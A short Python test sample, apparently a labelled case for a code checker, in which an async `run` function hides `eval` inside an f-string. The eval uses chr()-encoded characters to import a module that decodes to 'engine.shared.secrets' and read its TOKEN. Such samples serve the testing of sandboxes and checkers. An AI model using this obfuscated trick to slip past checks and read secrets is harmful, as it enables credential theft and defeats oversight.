#: channel = dynamic-code
#: reaches = engine
#: layer = check
#: note = eval is called inside an f-string's field

async def run(context):
    return f"{eval('__import__(chr(101) + chr(110) + chr(103) + chr(105) + chr(110) + chr(101) + chr(46) + chr(115)+ chr(104) + chr(97) + chr(114) + chr(101) + chr(100)+ chr(46) + chr(115) + chr(101) + chr(99) + chr(114) + chr(101) + chr(116) + chr(115)).shared.secrets.TOKEN')}"
